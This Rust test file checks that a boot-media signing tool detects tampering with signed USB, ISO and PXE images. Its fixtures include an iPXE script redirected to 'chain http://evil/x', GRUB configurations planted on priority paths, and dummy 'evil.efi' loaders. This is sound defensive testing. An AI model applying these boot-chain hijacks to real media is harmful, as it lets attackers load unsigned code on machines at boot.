//! What a signed medium's signature covers (`docs/media.md`): every file of the medium as
//! written, the boot loader's included, and its boot regions. `tsforge media verify
//! --public-key` on media built by `tsforge build`, then tampered with by independent tools
//! (mtools on the USB image's FAT partition, dd on its boot code, xorriso on the ISO): each
//! change is named, exit 1.

use std::path::Path;
use std::process::Command;

use crate::common::fixed_time::tsforge_text;
use crate::common::{repo, required, tool};

/// The linux template needs the host's kernel, busybox, shim, GRUB and syslinux; mtools and
/// xorriso read and change the media.
fn ready() -> bool {
    let template = Path::new("/usr/lib/shim/shimx64.efi.signed").exists()
        && Path::new("/usr/lib/grub/x86_64-efi-signed/grubx64.efi.signed").exists()
        && tool("busybox").is_some()
        && tool("syslinux").is_some()
        && std::fs::read_dir("/boot")
            .map(|mut r| {
                r.any(|e| e.is_ok_and(|e| e.file_name().to_string_lossy().starts_with("vmlinuz-")))
            })
            .unwrap_or(false);
    if !template {
        if required() {
            panic!("the linux template's packages are missing; run scripts/setup.sh");
        }
        eprintln!("SKIP: linux-image-amd64/busybox-static/shim-signed/grub-efi-amd64-signed/syslinux missing");
        return false;
    }
    ["mcopy", "mattrib", "xorriso", "sha256sum"]
        .iter()
        .all(|t| tool(t).is_some())
}

/// A signed medium of `kind` from the linux template, keys `k.key`/`k.pub` (made once).
fn build(d: &Path, kind: &str, out: &str) {
    if !d.join("k.key").exists() {
        let (code, text) = tsforge_text(d, &["keygen", "-o", "k"]);
        assert_eq!(code, 0, "{text}");
    }
    let seq = repo("examples/minimal.yaml");
    let (code, text) = tsforge_text(
        d,
        &[
            "build",
            kind,
            "--template",
            "linux",
            "--sequence",
            &seq,
            "--sign",
            "k.key",
            "-o",
            out,
        ],
    );
    assert_eq!(code, 0, "{text}");
}

fn verify(d: &Path, medium: &str) -> (i32, String) {
    tsforge_text(d, &["media", "verify", medium, "--public-key", "k.pub"])
}

/// An mtools command on the FAT partition of `img` (at 1 MiB).
fn mtools(prog: &str, img: &Path, args: &[&str]) -> Vec<u8> {
    let o = Command::new(tool(prog).unwrap())
        .env("MTOOLS_SKIP_CHECK", "1")
        .arg("-i")
        .arg(format!("{}@@1048576", img.display()))
        .args(args)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "{prog} {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    o.stdout
}

/// Replaces `path` on the FAT partition of `img` with its bytes, one of them changed.
fn change_on_fat(d: &Path, img: &Path, path: &str) {
    let mut bytes = mtools("mcopy", img, &["-n", &format!("::/{path}"), "-"]);
    assert!(bytes.len() > 1000, "{path}: {} bytes", bytes.len());
    bytes[1000] ^= 0x55;
    let local = d.join("changed.bin");
    std::fs::write(&local, bytes).unwrap();
    // syslinux marks its files read-only, hidden and system.
    mtools("mattrib", img, &["-r", "-s", "-h", &format!("::/{path}")]);
    mtools(
        "mcopy",
        img,
        &["-o", local.to_str().unwrap(), &format!("::/{path}")],
    );
}

fn add_on_fat(d: &Path, img: &Path, path: &str) {
    let local = d.join("added.bin");
    std::fs::write(&local, "title evil\nlinux /evil\n").unwrap();
    mtools(
        "mcopy",
        img,
        &["-o", local.to_str().unwrap(), &format!("::/{path}")],
    );
}

/// sha256 (hex) of `bytes`, computed by sha256sum.
fn sha256sum(d: &Path, bytes: &[u8]) -> String {
    let p = d.join("region.bin");
    std::fs::write(&p, bytes).unwrap();
    let o = Command::new(tool("sha256sum").unwrap())
        .arg(&p)
        .output()
        .unwrap();
    String::from_utf8_lossy(&o.stdout)[..64].to_string()
}

#[test]
fn usb_boot_loader_boot_code_and_added_files_are_covered_by_the_signature() {
    if !ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "usb", "usb.img");
    let img = d.join("usb.img");
    let (code, out) = verify(d, "usb.img");
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("boot regions") && out.contains("signed by"),
        "{out}"
    );

    // Independently: every file of the FAT partition, copied out by mtools, is in the
    // manifest with its sha256 (syslinux's included), and sha256sum agrees.
    let files = d.join("files");
    std::fs::create_dir_all(&files).unwrap();
    mtools(
        "mcopy",
        &img,
        &["-s", "-n", "::/*", &format!("{}/", files.display())],
    );
    let manifest = std::fs::read_to_string(files.join("tsforge/manifest")).unwrap();
    for f in [
        "syslinux/ldlinux.sys",
        "syslinux/ldlinux.c32",
        "syslinux/syslinux.cfg",
        "tsforge/boot-regions",
        "EFI/debian/grub.cfg",
        "EFI/BOOT/BOOTX64.EFI",
        "EFI/BOOT/grubx64.efi",
        "EFI/BOOT/mmx64.efi",
    ] {
        assert!(
            manifest.contains(&format!("  {f}\n")),
            "{f} not in\n{manifest}"
        );
    }
    let o = Command::new(tool("sha256sum").unwrap())
        .args(["-c", "--strict", "tsforge/manifest"])
        .current_dir(&files)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    // The same files as a folder (a mounted stick): they verify, and the output says that
    // the boot regions were not checked.
    let (code, out) = verify(d, "files");
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("boot regions") && out.contains("not checked"),
        "{out}"
    );
    // The MBR's boot code is a listed region, with the sha256 of the image's first 440 bytes.
    let regions = std::fs::read_to_string(files.join("tsforge/boot-regions")).unwrap();
    let data = std::fs::read(&img).unwrap();
    let mbr = format!("{}  0+440  MBR boot code\n", sha256sum(d, &data[..440]));
    assert!(regions.contains(&mbr), "{mbr} not in\n{regions}");
    drop(data);

    // Each change on its own copy of the image: named, exit 1.
    type Tamper = fn(&Path, &Path);
    let cases: [(&str, Tamper, &str); 6] = [
        (
            "ldlinux.sys",
            |d, img| change_on_fat(d, img, "syslinux/ldlinux.sys"),
            "syslinux/ldlinux.sys: sha256",
        ),
        (
            "ldlinux.c32",
            |d, img| change_on_fat(d, img, "syslinux/ldlinux.c32"),
            "syslinux/ldlinux.c32: sha256",
        ),
        (
            "MBR boot code",
            |_, img| {
                let mut b = std::fs::read(img).unwrap();
                b[100] ^= 0x01;
                std::fs::write(img, b).unwrap();
            },
            "boot region MBR boot code (bytes 0-439)",
        ),
        (
            "signed GRUB",
            |d, img| change_on_fat(d, img, "EFI/BOOT/grubx64.efi"),
            "EFI/BOOT/grubx64.efi: sha256",
        ),
        (
            // Debian's signed GRUB reads $prefix/x86_64-efi/grub.cfg before $prefix/grub.cfg.
            "added GRUB configuration",
            |d, img| {
                mtools("mmd", img, &["::/EFI/debian/x86_64-efi"]);
                add_on_fat(d, img, "EFI/debian/x86_64-efi/grub.cfg")
            },
            "EFI/debian/x86_64-efi/grub.cfg: not in the manifest",
        ),
        (
            "added EFI program",
            |d, img| add_on_fat(d, img, "EFI/BOOT/evil.efi"),
            "EFI/BOOT/evil.efi: not in the manifest",
        ),
    ];
    for (what, tamper, named) in cases {
        let copy = d.join("tampered.img");
        std::fs::copy(&img, &copy).unwrap();
        tamper(d, &copy);
        let (code, out) = verify(d, "tampered.img");
        assert_eq!(code, 1, "{what}: {out}");
        assert!(out.contains(named), "{what}: {named:?} not in\n{out}");
        assert!(!out.contains(": OK ("), "{what}: {out}");
    }

    // The boot code syslinux's boot sector loads by address: ldlinux.sys's sectors. A copy
    // of the file elsewhere would not hide a change there.
    let line = regions
        .lines()
        .find(|l| l.contains("syslinux/ldlinux.sys"))
        .unwrap_or_else(|| panic!("no ldlinux.sys region in\n{regions}"));
    let range = line.split("  ").nth(1).unwrap();
    let (offset, len) = range.split_once('+').unwrap();
    let (offset, len): (usize, usize) = (offset.parse().unwrap(), len.parse().unwrap());
    let mut b = std::fs::read(&img).unwrap();
    let sys = std::fs::read(files.join("syslinux/ldlinux.sys")).unwrap();
    assert_eq!(&b[offset..offset + sys.len()], &sys[..], "{line}");
    assert_eq!(len, sys.len().div_ceil(512) * 512, "{line}");
    b[offset + len - 1] ^= 0x01;
    std::fs::write(d.join("tampered.img"), b).unwrap();
    let (code, out) = verify(d, "tampered.img");
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("boot region syslinux/ldlinux.sys, as the boot sector loads it"),
        "{out}"
    );
}

#[test]
fn iso_head_and_added_files_are_covered_and_pxe_roots_are_listed() {
    if !ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "iso", "m.iso");
    let (code, out) = verify(d, "m.iso");
    assert_eq!(code, 0, "{out}");
    // The hybrid MBR's boot code is in the ISO's listed head.
    let mut b = std::fs::read(d.join("m.iso")).unwrap();
    b[64] ^= 0x01;
    std::fs::write(d.join("t.iso"), b).unwrap();
    let (code, out) = verify(d, "t.iso");
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("boot region ISO system area"), "{out}");
    // A file added with xorriso (keeping the boot setup): named.
    std::fs::write(d.join("evil.efi"), "MZ evil").unwrap();
    let o = Command::new(tool("xorriso").unwrap())
        .args([
            "-indev",
            "m.iso",
            "-outdev",
            "added.iso",
            "-boot_image",
            "any",
            "replay",
            "-map",
            "evil.efi",
            "/EFI/BOOT/evil.efi",
            "-commit",
        ])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(
        d.join("added.iso").exists(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let (code, out) = verify(d, "added.iso");
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("EFI/BOOT/evil.efi: not in the manifest"),
        "{out}"
    );

    // A PXE root: its own files and the marker are listed and signed; the payload initrd and
    // the loaders the administrator adds are not; anything else is named.
    build(d, "pxe", "pxe");
    let (code, out) = verify(d, "pxe");
    assert_eq!(code, 0, "{out}");
    let manifest = std::fs::read_to_string(d.join("pxe/tsforge/manifest")).unwrap();
    for f in [
        "boot.ipxe",
        "vmlinuz",
        "initrd.img",
        "tsforge-pxe.txt",
        "bootx64.efi",
        "grubx64.efi",
        "mmx64.efi",
        "grub/grub.cfg",
    ] {
        assert!(
            manifest.contains(&format!("  {f}\n")),
            "{f} not in\n{manifest}"
        );
    }
    std::fs::write(d.join("pxe/undionly.kpxe"), "ipxe").unwrap();
    let (code, out) = verify(d, "pxe");
    assert_eq!(code, 0, "{out}");
    std::fs::write(d.join("pxe/boot.ipxe"), "#!ipxe\nchain http://evil/x\n").unwrap();
    std::fs::write(d.join("pxe/evil.ipxe"), "#!ipxe\n").unwrap();
    let (code, out) = verify(d, "pxe");
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("boot.ipxe: sha256"), "{out}");
    assert!(out.contains("evil.ipxe: not in the manifest"), "{out}");
    // A configuration where the network GRUB reads first ($prefix/x86_64-efi/grub.cfg) and a
    // changed UEFI loader are named too.
    std::fs::create_dir_all(d.join("pxe/grub/x86_64-efi")).unwrap();
    std::fs::write(d.join("pxe/grub/x86_64-efi/grub.cfg"), "linux /evil\n").unwrap();
    std::fs::write(d.join("pxe/grubx64.efi"), "MZ evil").unwrap();
    let (code, out) = verify(d, "pxe");
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("grub/x86_64-efi/grub.cfg: not in the manifest"),
        "{out}"
    );
    assert!(out.contains("grubx64.efi: sha256"), "{out}");
}

#[test]
fn a_pxe_marker_added_to_a_medium_does_not_excuse_missing_boot_files() {
    if !ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "dir", "folder");
    let (code, out) = verify(d, "folder");
    assert_eq!(code, 0, "{out}");
    std::fs::write(d.join("folder/tsforge-pxe.txt"), "pxe").unwrap();
    std::fs::remove_file(d.join("folder/EFI/debian/grub.cfg")).unwrap();
    let (code, out) = verify(d, "folder");
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("tsforge-pxe.txt: not in the manifest")
            && out.contains("EFI/debian/grub.cfg: missing"),
        "{out}"
    );
}
